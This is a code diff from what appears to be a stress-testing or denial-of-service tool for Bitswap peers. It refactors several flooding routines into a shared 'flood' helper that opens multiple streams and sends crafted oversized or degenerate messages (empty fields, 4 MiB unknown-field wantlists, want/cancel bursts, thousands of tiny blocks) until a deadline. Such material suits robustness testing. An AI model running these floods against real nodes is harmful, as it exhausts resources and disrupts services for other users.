@@ -162,44 +162,34 @@ def together(target: dict[str, Any], until: float, raid: Callable[[Raider, int],
 # --- the swarm
 
 
-def empty_fields(target: dict[str, Any], until: float) -> None:
-    """Zero bytes over several streams: empty messages, one a byte."""
+def flood(target: dict[str, Any], until: float, data: bytes, streams: int) -> None:
+    """The same bytes over several Bitswap streams of one connection, again and again."""
 
     def raid(raider: Raider, _: int) -> None:
-        for at in range(STREAMS):
+        for at in range(streams):
             raider.open(2 * at + 1, PROTOCOL_1_2)
         while time.monotonic() < until:
-            for at in range(STREAMS):
-                raider.data(2 * at + 1, bytes(32 * 1024))
+            for at in range(streams):
+                raider.data(2 * at + 1, data)
 
     again(target, until, raid)
+
+
+def empty_fields(target: dict[str, Any], until: float) -> None:
+    """Zero bytes over several streams: empty messages, one a byte."""
+    flood(target, until, bytes(32 * 1024), STREAMS)
 
 
 def empty_entries(target: dict[str, Any], until: float) -> None:
     """Messages of fields that are empty: presences, wants, blocks without anything."""
-
-    def raid(raider: Raider, _: int) -> None:
-        body = b"\x1a\x00" * (2 * 1024 * 1024)
-        for at in range(STREAMS):
-            raider.open(2 * at + 1, PROTOCOL_1_2)
-        while time.monotonic() < until:
-            for at in range(STREAMS):
-                raider.data(2 * at + 1, encode_uvarint(len(body)) + body)
-
-    again(target, until, raid)
+    body = b"\x1a\x00" * (2 * 1024 * 1024)
+    flood(target, until, encode_uvarint(len(body)) + body, STREAMS)
 
 
 def unknown_fields(target: dict[str, Any], until: float) -> None:
     """Messages of 4 MiB, a wantlist of unknown inner fields."""
-
-    def raid(raider: Raider, _: int) -> None:
-        inner = b"\x78\x00" * (2 * 1024 * 1024 - 8)
-        body = bytes_field(1, inner)
-        raider.open(1, PROTOCOL_1_2)
-        while time.monotonic() < until:
-            raider.data(1, encode_uvarint(len(body)) + body)
-
-    again(target, until, raid)
+    body = bytes_field(1, b"\x78\x00" * (2 * 1024 * 1024 - 8))
+    flood(target, until, encode_uvarint(len(body)) + body, 1)
 
 
 def wants_and_cancels(target: dict[str, Any], until: float) -> None:
@@ -209,15 +199,7 @@ def wants_and_cancels(target: dict[str, Any], until: float) -> None:
     cancels = [Entry(cid, cancel=True) for cid in cids]
     body = b"".join(map(bytes, Message(entries=wants + cancels).encode()))
     message = encode_uvarint(len(body)) + body
-
-    def raid(raider: Raider, _: int) -> None:
-        for at in range(4):
-            raider.open(2 * at + 1, PROTOCOL_1_2)
-        while time.monotonic() < until:
-            for at in range(4):
-                raider.data(2 * at + 1, message)
-
-    again(target, until, raid)
+    flood(target, until, message, 4)
 
 
 def parked(target: dict[str, Any], until: float) -> None:
@@ -240,15 +222,7 @@ def tiny_blocks(target: dict[str, Any], until: float) -> None:
         map(bytes, Message(blocks=[Block(CID.of(b"%d" % at), b"%d" % at) for at in range(16_000)]).encode())
     )
     message = encode_uvarint(len(body)) + body
-
-    def raid(raider: Raider, _: int) -> None:
-        for at in range(8):
-            raider.open(2 * at + 1, PROTOCOL_1_2)
-        while time.monotonic() < until:
-            for at in range(8):
-                raider.data(2 * at + 1, message)
-
-    again(target, until, raid)
+    flood(target, until, message, 8)
 
 
 def pushes(target: dict[str, Any], until: float) -> None:
